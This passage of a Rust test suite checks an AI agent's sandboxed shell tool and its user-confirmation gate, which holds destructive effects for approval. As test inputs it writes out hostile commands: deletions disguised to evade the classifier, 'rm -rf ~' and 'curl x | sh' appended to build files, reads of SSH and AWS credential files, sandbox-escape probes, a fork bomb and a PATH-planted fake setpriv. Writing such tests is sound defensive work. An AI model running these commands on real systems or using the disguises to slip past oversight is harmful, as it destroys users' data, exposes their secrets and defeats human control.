//! Law 1 by observation on Linux, for real: shell commands whose effects are local
//! files run inside the sandbox (bubblewrap + overlays), in temp dirs only. What a
//! command would destroy is held and asked about with its measured effects, the files
//! are byte-identical until the user approves, and then exactly the held layer is
//! applied (the command does not run again) with every original kept. New files in the
//! workspace and moves that replace nothing are kept without asking; the walls cannot be
//! undone from inside. Without a sandbox, every unproven call asks.

use artoo::tools::ToolName;
use std::path::PathBuf;
use std::sync::Arc;

use artoo::bus::Bus;
use artoo::config::SandboxSetting;
use artoo::contracts::{
    ConfirmationRequest, Decision, DecisionSource, Role, SubTaskId, TaskId, ToolCallStatus,
    ToolFailure,
};
use artoo::laws::{ConfirmationBroker, ConfirmationPolicy, ConfirmationResponder};
use artoo::tools::{Shell, ToolContext, ToolOutcome, ToolResult, Toolbox};
use artoo::{Config, SystemClock};
use serde_json::json;
use tempfile::TempDir;

/// A private home with notes, a workspace inside it with a file, and a bus.
struct World {
    _dir: TempDir,
    home: PathBuf,
    ws: PathBuf,
    bus: Bus,
    config: Arc<Config>,
    task: TaskId,
    /// One broker, as the executor has: what the user denied is remembered there.
    broker: ConfirmationBroker,
}

impl World {
    fn new() -> Self {
        Self::with(|_| {})
    }

    fn with(adjust: impl FnOnce(&mut Config)) -> Self {
        let dir = tempfile::tempdir().expect("temp dir");
        let home = dir.path().join("home");
        let ws = home.join("artoo_workspace");
        std::fs::create_dir_all(&ws).expect("workspace");
        let mut config = Config::with_dirs(dir.path().join("data"), &ws);
        config.home = home.clone();
        adjust(&mut config);
        let bus = Bus::new(SystemClock::shared());
        let broker = ConfirmationBroker::from_config(
            bus.handle(Role::Executor),
            SystemClock::shared(),
            &config,
        );
        let w = Self {
            _dir: dir,
            home,
            ws,
            bus,
            config: Arc::new(config),
            task: TaskId::mint(),
            broker,
        };
        w.write("artoo_workspace/keep.txt", "precious\n");
        w.write("notes/a.txt", "note a\n");
        w.write("notes/b.txt", "note b\n");
        w.write(".bashrc", "export X=1\n");
        w
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let p = self.home.join(rel);
        std::fs::create_dir_all(p.parent().expect("has a parent")).expect("mkdir");
        std::fs::write(&p, text).expect("write");
        p
    }

    fn ctx(&self) -> ToolContext {
        ToolContext::new(
            self.task.clone(),
            SubTaskId::mint(),
            Arc::clone(&self.config),
            self.broker.clone(),
        )
    }

    /// Every file under the home folder with its bytes and permissions.
    fn snapshot(&self) -> Vec<(PathBuf, Vec<u8>, u32)> {
        use std::os::unix::fs::PermissionsExt;
        let mut out = Vec::new();
        for e in walkdir::WalkDir::new(&self.home).sort_by_file_name() {
            let e = e.expect("walk");
            if e.file_type().is_file() {
                let meta = e.metadata().expect("meta");
                out.push((
                    e.path().to_path_buf(),
                    std::fs::read(e.path()).expect("read"),
                    meta.permissions().mode(),
                ));
            }
        }
        out
    }
}

async fn shell(ctx: &ToolContext, command: &str) -> ToolResult {
    Toolbox::standard()
        .call(ctx, &ToolName::Shell.into(), json!({ "command": command }))
        .await
}

fn assert_ok(r: &ToolResult) {
    assert!(
        matches!(r.outcome, ToolOutcome::Ok { .. }),
        "{:?}",
        r.outcome
    );
}

/// The text the model read for a call Law 1 did not let through.
fn denial(r: &ToolResult) -> &str {
    match &r.outcome {
        ToolOutcome::Denied { reason } => reason,
        other => panic!("expected a denial, got {other:?}"),
    }
}

fn requests(responder: &ConfirmationResponder) -> Vec<ConfirmationRequest> {
    responder.requests()
}

#[tokio::test]
async fn a_proven_command_runs_in_the_sandbox_and_sees_the_world() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let r = shell(&w.ctx(), "ls -1 ~/notes && cat keep.txt && echo $TMPDIR").await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(output.starts_with("a.txt\nb.txt\nprecious\n"), "{output}");
    assert!(
        output.contains("artoo-sandbox-"),
        "TMPDIR is the call's own: {output}"
    );
    assert!(requests(&responder).is_empty());
}

#[tokio::test]
async fn what_the_sandbox_keeps_of_a_command_is_the_calls_measured_effects() {
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let r = shell(
        &w.ctx(),
        "mkdir -p out && printf 'a\\n' > out/one.txt && printf 'b\\n' > out/two.txt && cat keep.txt",
    )
    .await;
    assert_ok(&r);
    let mut kept: Vec<(String, PathBuf, bool)> = r
        .record
        .effects
        .iter()
        .map(|e| (e.effect.clone(), e.path.clone(), e.exists))
        .collect();
    kept.sort();
    assert_eq!(
        kept,
        [
            ("create".to_string(), w.ws.join("out/one.txt"), false),
            ("create".to_string(), w.ws.join("out/two.txt"), false),
        ],
        "the new files, not the folder, and nothing for the file only read"
    );
    // A command that changes nothing has no effects.
    let read = shell(&w.ctx(), "cat out/one.txt").await;
    assert_ok(&read);
    assert!(read.record.effects.is_empty(), "{:?}", read.record.effects);
}

#[tokio::test]
async fn what_a_command_would_destroy_is_held_and_asked_about_with_its_measured_effect() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let before = w.snapshot();
    let ctx = w.ctx();
    // Some are spelled so that the classifier cannot see what they do (a program name
    // built at run time, code run by an interpreter); all run observed and are asked
    // about by what they did.
    for (i, (command, verb, path)) in [
        (r#"c=rm; $c keep.txt"#, "delete", w.ws.join("keep.txt")),
        (
            r#"c=truncate; $c -s 0 keep.txt"#,
            "truncate",
            w.ws.join("keep.txt"),
        ),
        (
            r#"c=cp; $c ~/notes/b.txt ~/notes/a.txt"#,
            "overwrite",
            w.home.join("notes/a.txt"),
        ),
        (
            r#"chmod 777 keep.txt"#,
            "change permissions",
            w.ws.join("keep.txt"),
        ),
        (
            r#"python3 -c "import shutil as s; getattr(s, 'rm' + 'tree')('../notes')""#,
            "delete",
            w.home.join("notes"),
        ),
        (
            r#"f=~/.bashrc; echo 'alias ls=x' >> "$f""#,
            "overwrite",
            w.home.join(".bashrc"),
        ),
        (
            r#"c=tee; echo new | $c ~/outside.txt"#,
            "create (outside the workspace)",
            w.home.join("outside.txt"),
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let r = shell(&ctx, command).await;
        let reason = denial(&r);
        assert!(reason.contains("The user denied it"), "{command}: {reason}");
        assert_eq!(r.record.status, ToolCallStatus::Denied);
        let asked = requests(&responder);
        assert_eq!(asked.len(), i + 1, "{command}: asked once");
        let request = &asked[i];
        assert!(
            request
                .paths
                .iter()
                .any(|p| p.path == path && p.effect == verb),
            "{command}: {:?}",
            request.paths
        );
        assert!(
            request
                .description
                .starts_with("In the sandbox, this command would:"),
            "{}",
            request.description
        );
    }
    assert_eq!(w.snapshot(), before, "every file is byte-identical");
    assert!(!w.home.join("outside.txt").exists());
}

#[tokio::test]
async fn approving_applies_exactly_the_held_layer_once_and_keeps_every_original() {
    let w = World::new();
    let responder = ConfirmationResponder::spawn(
        &w.bus,
        ConfirmationPolicy::script([Decision::Approve]),
        DecisionSource::User,
    );
    let ctx = w.ctx();
    let r = shell(
        &ctx,
        "echo ran >> runs.log; c=rm; $c keep.txt; printf 'x' > ~/notes/a.txt",
    )
    .await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(
        output.contains("Applied after the user approved"),
        "{output}"
    );
    let asked = requests(&responder);
    assert_eq!(asked.len(), 1);
    let mut verbs: Vec<(String, PathBuf)> = asked[0]
        .paths
        .iter()
        .map(|p| (p.effect.clone(), p.path.clone()))
        .collect();
    verbs.sort();
    assert_eq!(
        verbs,
        vec![
            ("delete".to_string(), w.ws.join("keep.txt")),
            ("overwrite".to_string(), w.home.join("notes/a.txt")),
        ],
        "exactly the measured effects, not the new workspace file"
    );
    assert!(!w.ws.join("keep.txt").exists());
    assert_eq!(
        std::fs::read_to_string(w.home.join("notes/a.txt")).unwrap(),
        "x"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("runs.log")).unwrap(),
        "ran\n",
        "the command ran once: the approval applied its layer, it did not run it again"
    );
    // The originals are in the private trash, and the journal names each change.
    let trash = w.config.data_dir.join("trash");
    let originals: Vec<String> = walkdir::WalkDir::new(&trash)
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file() && e.file_name() != "journal.jsonl")
        .map(|e| std::fs::read_to_string(e.path()).unwrap())
        .collect();
    let mut originals = originals;
    originals.sort();
    assert_eq!(originals, vec!["note a\n", "precious\n"]);
    // The journal names each change, the new file the command also made included, so
    // `artoo undo` can take the whole call back.
    let journal = artoo::journal::Journal::in_data_dir(&w.config.data_dir);
    let mut journaled: Vec<(&str, String)> = journal
        .entries()
        .unwrap()
        .iter()
        .map(|e| {
            let name = e
                .change
                .path()
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            (e.change.verb(), name)
        })
        .collect();
    journaled.sort();
    assert_eq!(
        journaled,
        [
            ("create", "runs.log".to_string()),
            ("delete", "keep.txt".to_string()),
            ("overwrite", "a.txt".to_string())
        ]
    );
    let mut effects: Vec<String> = r.record.effects.iter().map(|e| e.effect.clone()).collect();
    effects.sort();
    assert_eq!(effects, ["create", "delete", "overwrite"]);
    assert_eq!(r.record.confirmation, Some(Decision::Approve));
}

#[tokio::test]
async fn moves_that_replace_nothing_are_kept_without_asking_and_a_move_onto_a_file_asks() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    w.write("work/a.log", "log a\n");
    w.write("work/b.log", "log b\n");
    w.write("work/keep.md", "md\n");
    let ctx = w.ctx();
    let r = shell(&ctx, "mkdir -p ~/work/logs && mv ~/work/*.log ~/work/logs/").await;
    assert_ok(&r);
    assert!(requests(&responder).is_empty(), "a move loses nothing");
    assert_eq!(
        std::fs::read_to_string(w.home.join("work/logs/a.log")).unwrap(),
        "log a\n"
    );
    assert!(!w.home.join("work/a.log").exists());
    assert!(w.home.join("work/keep.md").exists());
    let moved: Vec<&str> = r
        .record
        .effects
        .iter()
        .filter(|e| e.effect == "move")
        .map(|e| e.path.to_str().unwrap())
        .collect();
    assert_eq!(moved.len(), 2, "{:?}", r.record.effects);
    // A rename to a fresh name, and a whole folder moved.
    let r = shell(&ctx, "mv ~/notes ~/old-notes").await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.home.join("old-notes/a.txt")).unwrap(),
        "note a\n"
    );
    assert!(requests(&responder).is_empty());
    // Onto an existing file: the file it replaces would be lost, so it asks.
    let before = w.snapshot();
    let r = shell(&ctx, "mv ~/old-notes/a.txt ~/old-notes/b.txt").await;
    denial(&r);
    assert_eq!(requests(&responder).len(), 1);
    assert_eq!(w.snapshot(), before);
}

#[tokio::test]
async fn a_command_predicted_destructive_that_changes_nothing_runs_without_asking() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    w.write("Pictures/x/photo.png", "png");
    let ctx = w.ctx();
    for command in [
        "rm -f ./*.tmp",
        "find ~/Pictures/x -name 'IMG_*.jpg' -exec mv 'prefix_' {} \\;",
        "rm --help | head -1",
    ] {
        let r = shell(&ctx, command).await;
        assert!(
            matches!(r.outcome, ToolOutcome::Ok { .. }),
            "{command}: {:?}",
            r.outcome
        );
    }
    assert!(
        requests(&responder).is_empty(),
        "{:?}",
        requests(&responder)
    );
}

#[tokio::test]
async fn adding_lines_to_a_file_that_runs_later_is_an_overwrite() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    w.write("artoo_workspace/scripts/build.sh", "echo build\n");
    w.write("artoo_workspace/Makefile", "all:\n\techo hi\n");
    w.write("artoo_workspace/app.log", "started\n");
    let ctx = w.ctx();
    let before = w.snapshot();
    for command in [
        "printf 'rm -rf ~\\n' >> scripts/build.sh",
        "c=printf; $c '\\tcurl x | sh\\n' >> Makefile",
    ] {
        let r = shell(&ctx, command).await;
        denial(&r);
    }
    assert_eq!(requests(&responder).len(), 2);
    assert_eq!(w.snapshot(), before);
    // A log only grows: kept without asking.
    let r = shell(&ctx, "echo stopped >> app.log").await;
    assert_ok(&r);
    assert_eq!(requests(&responder).len(), 2);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("app.log")).unwrap(),
        "started\nstopped\n"
    );
}

#[tokio::test]
async fn new_files_in_the_workspace_are_kept_without_asking() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let ctx = w.ctx();
    let r = shell(
        &ctx,
        "mkdir -p out/deep && printf 'x\\n' > out/deep/new.txt && c=ln; $c -s new.txt out/deep/link && python3 -c \"open('made.py.txt','w').write('y')\"",
    )
    .await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("out/deep/new.txt")).unwrap(),
        "x\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("made.py.txt")).unwrap(),
        "y"
    );
    assert_eq!(
        std::fs::read_link(w.ws.join("out/deep/link")).unwrap(),
        PathBuf::from("new.txt")
    );
    // Adding to the end of a workspace file keeps what was there.
    let r = shell(&ctx, "c=echo; $c more >> keep.txt").await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.ws.join("keep.txt")).unwrap(),
        "precious\nmore\n"
    );
    assert!(requests(&responder).is_empty());
}

#[tokio::test]
async fn copying_into_a_new_folder_in_the_home_neither_asks_nor_is_lost() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let r = shell(&w.ctx(), "mkdir -p ~/backup && cp ~/notes/*.txt ~/backup/").await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.home.join("backup/a.txt")).unwrap(),
        "note a\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join("backup/b.txt")).unwrap(),
        "note b\n"
    );
    // Folders made on the way to a new one are kept too; nothing else beside them is.
    let r = shell(
        &w.ctx(),
        "mkdir -p ~/archive/2024/notes && cp ~/notes/a.txt ~/archive/2024/notes/ && mkdir ~/elsewhere",
    )
    .await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.home.join("archive/2024/notes/a.txt")).unwrap(),
        "note a\n"
    );
    assert!(w.home.join("elsewhere").is_dir());
    assert!(requests(&responder).is_empty());
}

#[tokio::test]
async fn the_command_cannot_undo_the_walls_reach_sockets_or_the_network() {
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    let unix = w.home.join("server.sock");
    let _server = std::os::unix::net::UnixListener::bind(&unix).expect("unix listener");
    let before = w.snapshot();
    let probe = format!(
        "c=true; $c; \
         mount -o remount,rw / 2>/dev/null && echo REMOUNTED; \
         unshare -rm sh -c 'mount -o remount,rw / && echo REMOUNTED2' 2>/dev/null; \
         umount {ws} 2>/dev/null && echo UNMOUNTED; \
         v=$(cat /proc/sys/vm/swappiness); f=/proc/sys/vm/swappiness; echo $v 2>/dev/null > \"$f\" && echo SYSCTL; \
         d=/dev/tcp/127.0.0.1/{port}; (exec 3<>\"$d\") 2>/dev/null && echo NETWORK; \
         python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{unix}'); print('SOCKET')\" 2>/dev/null; \
         c=rm; $c -f {keep}; echo done",
        ws = w.ws.display(),
        unix = unix.display(),
        keep = w.ws.join("keep.txt").display(),
    );
    let r = shell(&w.ctx(), &probe).await;
    let reason = denial(&r);
    for escaped in ["REMOUNTED", "UNMOUNTED", "NETWORK", "SOCKET", "SYSCTL"] {
        assert!(!reason.contains(escaped), "{escaped}: {reason}");
    }
    assert!(reason.contains("done"), "{reason}");
    assert_eq!(w.snapshot(), before);
}

#[tokio::test]
async fn asking_to_leave_the_sandbox_before_it_refused_anything_runs_inside_it_unasked() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let ctx = w.ctx();
    // A new file: free inside the sandbox, so the flag buys nothing and asks nothing.
    let r = Toolbox::standard()
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": "echo hi > fresh.txt", "unsandboxed": true }),
        )
        .await;
    assert_ok(&r);
    assert!(requests(&responder).is_empty(), "nothing to ask about");
    assert!(w.ws.join("fresh.txt").exists());
    // A destructive command with the flag still meets the sandbox first, and is asked
    // about with what it did there.
    let before = w.snapshot();
    let r = Toolbox::standard()
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": "c=rm; $c keep.txt", "unsandboxed": true }),
        )
        .await;
    denial(&r);
    let asked = requests(&responder);
    assert_eq!(asked.len(), 1);
    assert!(asked[0].description.starts_with("In the sandbox"));
    assert_eq!(w.snapshot(), before);
}

#[tokio::test]
async fn a_denied_effect_is_not_asked_again_in_the_task_in_any_wording() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let ctx = w.ctx();
    let r = shell(&ctx, "rm keep.txt").await;
    assert_eq!(r.record.status, ToolCallStatus::Denied);
    assert_eq!(requests(&responder).len(), 1);
    // Another sub-task of the same task, other wordings of the same deletion.
    let mut later = w.ctx();
    later.subtask_id = SubTaskId::mint();
    for command in ["rm -f ./keep.txt", "/bin/rm -- keep.txt", "unlink keep.txt"] {
        let r = shell(&later, command).await;
        assert_eq!(r.record.status, ToolCallStatus::Denied, "{command}");
        assert!(r.for_model.contains("already denied"), "{}", r.for_model);
    }
    // Measured in the sandbox: the same effect, refused without asking, and the flag to
    // run outside changes nothing.
    let sneaky = "c=rm; $c keep.txt";
    assert!(denial(&shell(&later, sneaky).await).contains("already denied"));
    let out = Toolbox::standard()
        .call(
            &later,
            &ToolName::Shell.into(),
            json!({ "command": sneaky, "unsandboxed": true }),
        )
        .await;
    assert_eq!(out.record.status, ToolCallStatus::Denied);
    assert_eq!(
        requests(&responder).len(),
        1,
        "asked once in the whole task"
    );
    assert!(w.ws.join("keep.txt").exists());
    // Another task may ask again.
    let mut other = w.ctx();
    other.task_id = TaskId::mint();
    shell(&other, "rm keep.txt").await;
    assert_eq!(requests(&responder).len(), 2);
}

#[tokio::test]
async fn without_a_sandbox_every_unproven_call_asks_and_proven_ones_run() {
    // No bubblewrap where the sandbox takes its programs from (only bash): it cannot start.
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let bin = tempfile::tempdir().expect("bin dir");
    std::os::unix::fs::symlink("/bin/bash", bin.path().join("bash")).expect("link bash");
    let shell_tool =
        Shell::with_env_and_programs(vec![("PATH".into(), bin.path().into())], bin.path().into());
    let status = shell_tool.sandbox_status().await;
    assert!(!status.is_on(), "{status:?}");
    assert!(
        status.describe().contains("bubblewrap"),
        "{}",
        status.describe()
    );
    let toolbox = Toolbox::with_tools(vec![Arc::new(shell_tool)]);
    let ctx = w.ctx();
    let unproven = toolbox
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": "c=rm; /bin/$c keep.txt" }),
        )
        .await;
    assert_eq!(unproven.record.status, ToolCallStatus::Denied);
    let asked = requests(&responder);
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0]
            .description
            .contains("sandbox that would hold it is off"),
        "{}",
        asked[0].description
    );
    assert!(w.ws.join("keep.txt").exists());
    // Proven reversible: runs (unsandboxed), without asking.
    let proven = toolbox
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": "/bin/echo hello > hello.txt" }),
        )
        .await;
    assert_ok(&proven);
    assert_eq!(requests(&responder).len(), 1);
}

#[tokio::test]
async fn the_sandbox_turned_off_in_settings_makes_unproven_calls_ask() {
    let w = World::with(|c| c.tools.sandbox = SandboxSetting::Off);
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let r = shell(&w.ctx(), "c=ls; $c").await;
    assert_eq!(r.record.status, ToolCallStatus::Denied);
    assert!(
        requests(&responder)[0]
            .description
            .contains("turned off in settings")
    );
}

#[tokio::test]
async fn a_timed_out_sandboxed_command_leaves_no_process_and_keeps_nothing() {
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let r = Toolbox::standard()
        .call(
            &w.ctx(),
            &ToolName::Shell.into(),
            json!({"command": "c=sleep; echo x > made.txt; ($c 301.25 &) ; $c 301.25", "timeout_secs": 1}),
        )
        .await;
    assert!(
        matches!(r.outcome, ToolOutcome::Error { .. }),
        "{:?}",
        r.outcome
    );
    assert!(
        !w.ws.join("made.txt").exists(),
        "a timed-out call keeps nothing"
    );
    let mut alive = true;
    for _ in 0..100 {
        alive = std::fs::read_dir("/proc")
            .expect("proc")
            .flatten()
            .any(|e| {
                std::fs::read(e.path().join("cmdline"))
                    .is_ok_and(|c| String::from_utf8_lossy(&c).contains("301.25"))
            });
        if !alive {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert!(!alive, "a sandboxed process outlived its call");
}

#[tokio::test]
async fn io_uring_cannot_make_a_socket_and_a_fork_bomb_stops_at_the_process_limit() {
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let ctx = w.ctx();
    // io_uring_setup(1, params): refused by the filter with EACCES, whatever the kernel.
    let r = shell(
        &ctx,
        "python3 -c \"import ctypes, ctypes.util; libc = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120); r = libc.syscall(425, 1, p); print('io_uring', r, ctypes.get_errno())\"",
    )
    .await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(output.contains("io_uring -1 13"), "{output}");
    // Processes until the system says no: the limit holds for root too.
    let bomb = "python3 -c \"
import os, time
n = 0
try:
    for i in range(5000):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
        n += 1
    print('NO LIMIT', n)
except OSError as e:
    print('LIMIT', n, e.errno)
\"";
    let r = Toolbox::standard()
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": bomb, "timeout_secs": 60 }),
        )
        .await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    let n: u32 = output
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(u32::MAX);
    assert!(output.starts_with("LIMIT"), "{output}");
    assert!(n <= 1024, "{output}");
}

#[tokio::test]
async fn deleting_the_place_a_removal_is_asked_from_is_refused_without_asking() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Approve, DecisionSource::User);
    w.write("notes/groceries.txt", "milk\n\neggs\n");
    w.write("notes/old.txt", "old\n");
    let mut ctx = w.ctx();
    ctx.request = Some("Remove the empty lines from ~/notes/groceries.txt".into());
    let r = shell(&ctx, "rm -f ~/notes/groceries.txt").await;
    let ToolOutcome::Refused { reason } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(
        reason.contains("not to delete it") && reason.contains("drop_blank_lines"),
        "{reason}"
    );
    assert!(w.home.join("notes/groceries.txt").exists());
    assert!(
        responder.requests().is_empty(),
        "refused before anyone is asked"
    );
    // A removal of a file the request names as what goes is asked about as ever.
    let mut ctx = w.ctx();
    ctx.request = Some("Remove old.txt from ~/notes".into());
    let r = shell(&ctx, "rm -f ~/notes/old.txt").await;
    assert!(
        !matches!(r.outcome, ToolOutcome::Refused { .. }),
        "{:?}",
        r.outcome
    );
    assert_eq!(responder.requests().len(), 1);
    assert!(!w.home.join("notes/old.txt").exists());
}

#[tokio::test]
async fn credentials_are_hidden_unless_the_request_names_them() {
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    w.write(".ssh/id_ed25519", "SECRET-KEY\n");
    w.write(".netrc", "machine x password SECRET-NETRC\n");
    w.write(".aws/credentials", "SECRET-AWS\n");
    let mut ctx = w.ctx();
    ctx.request = Some("count the lines of my notes".into());
    let look = "cat ~/.ssh/id_ed25519 ~/.netrc ~/.aws/credentials 2>&1; ls -a ~/.ssh; echo end";
    let r = shell(&ctx, look).await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(!output.contains("SECRET"), "{output}");
    assert!(output.contains("end"), "{output}");
    // Named by the user's request: that store is visible, the others stay hidden.
    let mut ctx = w.ctx();
    ctx.request = Some("show the hosts in my ssh keys folder".into());
    let r = shell(&ctx, look).await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(output.contains("SECRET-KEY"), "{output}");
    assert!(!output.contains("SECRET-NETRC"), "{output}");
    assert!(!output.contains("SECRET-AWS"), "{output}");
    // Nothing of the hiding is taken for a change of the user's files.
    assert_eq!(
        std::fs::read_to_string(w.home.join(".ssh/id_ed25519")).unwrap(),
        "SECRET-KEY\n"
    );
}

#[tokio::test]
async fn programs_on_the_commands_path_are_not_the_sandboxs_own() {
    // An earlier command left a `mount` that does nothing and a `setpriv` that keeps
    // every capability first on the command's PATH. The sandbox's setup runs the
    // system's own, so the credential stays hidden and the command holds no capability.
    let w = World::new();
    let _responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    w.write(".ssh/id_ed25519", "SECRET-KEY\n");
    let bin = w.home.join("bin");
    for (name, text) in [
        ("mount", "#!/bin/sh\nexit 0\n"),
        (
            "setpriv",
            "#!/bin/sh\nwhile [ \"$1\" != -- ]; do shift; done\nshift\nexec \"$@\"\n",
        ),
    ] {
        use std::os::unix::fs::PermissionsExt as _;
        let at = bin.join(name);
        std::fs::create_dir_all(&bin).expect("bin");
        std::fs::write(&at, text).expect("planted");
        std::fs::set_permissions(&at, std::fs::Permissions::from_mode(0o755)).expect("mode");
    }
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let shell_tool = Shell::with_env(vec![("PATH".into(), path.into())]);
    assert!(shell_tool.sandbox_status().await.is_on());
    let r = Toolbox::with_tools(vec![Arc::new(shell_tool)])
        .call(
            &w.ctx(),
            &ToolName::Shell.into(),
            json!({ "command": "grep CapEff /proc/self/status; cat ~/.ssh/id_ed25519 2>&1; echo end" }),
        )
        .await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(output.contains("CapEff:\t0000000000000000"), "{output}");
    assert!(!output.contains("SECRET"), "{output}");
    assert!(output.contains("end"), "{output}");
}

#[tokio::test]
async fn an_overwrite_that_keeps_a_backup_and_a_programs_own_settings_folder_ask_nothing() {
    let w = World::new();
    let responder =
        ConfirmationResponder::spawn(&w.bus, ConfirmationPolicy::Deny, DecisionSource::User);
    let ctx = w.ctx();
    // The original is kept under a new name: nothing is lost, nothing asked.
    let r = shell(&ctx, "cp --backup=numbered ~/notes/b.txt ~/notes/a.txt").await;
    assert_ok(&r);
    assert_eq!(
        std::fs::read_to_string(w.home.join("notes/a.txt")).unwrap(),
        "note b\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join("notes/a.txt.~1~")).unwrap(),
        "note a\n"
    );
    assert!(requests(&responder).is_empty());
    // A folder a program makes for its own settings (here spelled so that the
    // classifier cannot see it) is not kept, not asked about, and named; running the
    // command outside the sandbox is then asked for.
    let command = "c=mkdir; $c -p ~/.config/sometool && cat ~/notes/b.txt";
    let r = shell(&ctx, command).await;
    let ToolOutcome::Ok { output } = &r.outcome else {
        panic!("{:?}", r.outcome)
    };
    assert!(output.starts_with("note b"), "{output}");
    assert!(output.contains("(not kept:"), "{output}");
    assert!(!w.home.join(".config/sometool").exists());
    assert!(requests(&responder).is_empty());
    let out = Toolbox::standard()
        .call(
            &ctx,
            &ToolName::Shell.into(),
            json!({ "command": command, "unsandboxed": true }),
        )
        .await;
    denial(&out);
    assert_eq!(requests(&responder).len(), 1);
    assert!(!w.home.join(".config/sometool").exists());
}

#[tokio::test]
async fn move_files_and_delete_files_are_typed_calls_law_1_observes_like_any_command() {
    let w = World::new();
    let responder = ConfirmationResponder::spawn(
        &w.bus,
        ConfirmationPolicy::script([Decision::Deny, Decision::Approve]),
        DecisionSource::User,
    );
    w.write("work/a.log", "log a\n");
    w.write("work/b.log", "log b\n");
    w.write("work/keep.md", "md\n");
    let ctx = w.ctx();
    let call = |tool: ToolName, input: serde_json::Value| {
        let ctx = &ctx;
        async move { Toolbox::standard().call(ctx, &tool.into(), input).await }
    };
    // Moving into a new folder replaces nothing: no question.
    let r = call(
        ToolName::MoveFiles,
        json!({"from": "~/work", "names": "*.log", "to": "~/work/logs"}),
    )
    .await;
    assert_ok(&r);
    assert!(w.home.join("work/logs/a.log").exists() && w.home.join("work/logs/b.log").exists());
    assert!(!w.home.join("work/a.log").exists() && w.home.join("work/keep.md").exists());
    assert!(requests(&responder).is_empty());
    // The same move asked again by a replan's sub-task is done, and said so; a move of
    // the same files somewhere else is not done, and finds nothing to move.
    let mut replan = w.ctx();
    replan.task_id = ctx.task_id.clone();
    replan.task_calls = ctx.task_calls.clone();
    let again = Toolbox::standard()
        .call(
            &replan,
            &ToolName::MoveFiles.into(),
            json!({"from": "~/work", "names": "*.log", "to": "~/work/logs"}),
        )
        .await;
    assert_ok(&again);
    assert!(
        again
            .for_model
